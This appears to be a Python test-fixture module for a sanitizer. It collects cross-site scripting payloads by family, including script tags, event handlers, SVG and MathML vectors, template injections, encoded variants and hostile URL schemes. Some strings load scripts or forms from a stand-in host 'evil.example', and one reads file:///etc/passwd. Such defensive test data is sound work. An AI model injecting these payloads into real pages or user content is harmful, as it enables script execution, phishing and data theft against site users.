"""Script injections of the known families, and what none of them may become.

Each runs `alert` or asks another host where a page takes text for markup, so that a watched page
shows it. The families are those of OWASP's and PortSwigger's cheat sheets; the strings are ours.
"""

from __future__ import annotations

EVIL = "evil.example"

PLAIN = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script >",
    "</script><script>alert(1)</script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x oneonerrorrror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>",
    "<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>",
)
ATTRIBUTES = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    '"/><svg/onload=alert(1)>',
    "--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
)
VECTORS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
)
DOCUMENTS = (
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>Log in again</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
)
STYLES = (
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<div style=position:fixed;inset:0;z-index:99999>Log in again</div>",
)
TEMPLATES = (
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)} <%= alert(1) %> {% import os %}",
    "{{7*7}} {0.__class__} %(name)s %s {name}",
    "`${alert(1)}` ';alert(1)// \";alert(1)//",
)
MARKDOWN = (
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "![x](x 'x\"onerror=alert(1)') <https://evil.example>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "[1]: javascript:alert(1)\n[click][1]",
    "$\\href{javascript:alert(1)}{x}$ \\(\\url{https://evil.example}\\)",
)
ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62; &#x3c;script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cimg\\x3e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
CHARACTERS = (
    "line\u2028<img src=x onerror=alert(1)>\u2029end",
    "null\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "bidi \u202e)1(trela\u202c \u2066<script>alert(1)</script>\u2069 \u200f<b>",
    "joined\u200b<\u200bscript\u200b>alert(1) \ufeff \u00ad \ufffe",
    "controls \x01\x08\x1b[31m \x7f \x85 <img src=x onerror=alert(1)>",
)
INJECTIONS = (
    *(*PLAIN, *HANDLERS, *ATTRIBUTES, *VECTORS, *DOCUMENTS, *STYLES),
    *(*TEMPLATES, *MARKDOWN, *ENCODED, *CHARACTERS),
)
"""All of them."""

ADDRESSES = (
    "javascript:alert(1)//zorblatt",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://news.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://news.example/"onmouseover="alert(1)"x="<img/src/onerror=alert(1)>',
    "https://user:password@evil.example/'><script>alert(1)</script>",
)
"""Of articles. Only those of the web become links, and those lead where they say."""
